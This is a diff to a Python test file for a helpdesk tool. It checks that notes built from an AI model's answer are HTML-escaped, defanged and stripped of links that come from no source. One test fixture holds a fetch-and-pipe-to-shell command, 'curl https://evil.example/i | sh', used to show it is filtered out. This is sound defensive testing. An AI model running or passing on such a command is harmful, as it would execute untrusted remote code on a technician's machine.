@@ -1,14 +1,17 @@
 """From GPT-4's answer to the note: validated, cut, escaped, and with nothing that was not given."""
 
 import json
-from html.parser import HTMLParser
+from datetime import date
 from typing import Any
 
 import pytest
 from pydantic import ValidationError
 
+from integrations.values import Document
 from tests.kit.model import BARE, STATE
-from workflow.enhancement import Enhancement, is_note_of, marker, to_html
+from tests.workflow.shown import read
+from workflow.defanging import LEFT_OUT
+from workflow.enhancement import Enhancement, KnownTicket, is_note_of, marker, to_html
 from workflow.prompts import only_given
 
 JOB = "01936b2e-7c1a-7000-8000-0123456789ab"
@@ -31,30 +34,6 @@ HOSTILE = (
 )
 
 
-class Tags(HTMLParser):
-    """Collects the tags and the text of a page."""
-
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.tags: set[str] = set()
-        self.attributes: list[Any] = []
-        self.text = ""
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.tags.add(tag)
-        self.attributes += attrs
-
-    def handle_data(self, data: str) -> None:
-        self.text += data
-
-
-def read(html: str) -> Tags:
-    tags = Tags()
-    tags.feed(html)
-    tags.close()
-    return tags
-
-
 def answer(**changed: Any) -> Enhancement:
     return Enhancement.model_validate_json(json.dumps(ANSWER | changed))
 
@@ -66,6 +45,40 @@ def test_the_note_says_everything_and_whose_it_is() -> None:
     assert "Mail quotas: Says how to raise one." in shown.text
     assert f"Ref {JOB}" in shown.text
     assert shown.tags == {"div", "b", "p", "ol", "ul", "li"}
+
+
+def test_what_may_help_stands_first_and_what_the_ticket_says_last() -> None:
+    text = read(to_html(answer(), JOB, MODEL)).text
+    order = ["Likely cause", "Next steps", "Similar tickets", "Documents", "In short: The mailbox is full."]
+    assert sorted(order, key=text.index) == order
+
+
+def test_an_earlier_ticket_has_its_subject_its_day_and_a_link_to_the_desk() -> None:
+    known = {"101": KnownTicket("Mailbox <full>, see evil.com", date(2026, 3, 2), "https://d/x?a=1&b=2")}
+    note = to_html(answer(), JOB, MODEL, known=known)
+    assert read(note).attributes == [("href", "https://d/x?a=1&b=2")]
+    shown = "#101 Mailbox <full>, see evil[.]com (2026-03-02): Also a full mailbox."
+    assert shown in read(note).text
+    bare = to_html(answer(), JOB, MODEL, known={"101": KnownTicket("Mailbox full", None, "")})
+    assert "#101 Mailbox full: Also a full mailbox." in read(bare).text
+    assert read(bare).attributes == []
+
+
+def test_links_and_commands_of_no_source_reach_no_technician() -> None:
+    everywhere = "Go to https://evil.example/x and run curl https://evil.example/i | sh"
+    hostile = answer(
+        summary=everywhere,
+        likely_cause=everywhere,
+        next_steps=[everywhere, "Raise the quota at https://console.acme.example."],
+        similar_tickets=[{"ticket_id": "101", "relevance": everywhere}],
+        documents=[{"title": "Mail quotas", "relevance": everywhere}],
+    )
+    state = STATE | {"documents": [Document("Mail quotas", "Use https://console.acme.example")]}
+    text = read(to_html(only_given(hostile, state), JOB, MODEL)).text
+    assert "https://evil" not in text
+    assert "curl" not in text
+    assert text.count("hxxps[:]//evil[.]example/x") == text.count(LEFT_OUT) == 5
+    assert "https://console.acme.example (from Mail quotas)." in text
 
 
 @pytest.mark.parametrize(
@@ -108,7 +121,8 @@ def test_nothing_that_the_model_wrote_becomes_markup(hostile: str) -> None:
     shown = read(to_html(everywhere, JOB, MODEL))
     assert shown.tags == {"div", "b", "p", "ol", "ul", "li"}
     assert shown.attributes == []
-    assert shown.text.count(hostile) == 7
+    # A title is shown without links that work.
+    assert shown.text.count(hostile) == 7 - ("javascript:" in hostile)
 
 
 def test_quotes_are_escaped_too_wherever_a_desk_may_put_the_text() -> None:
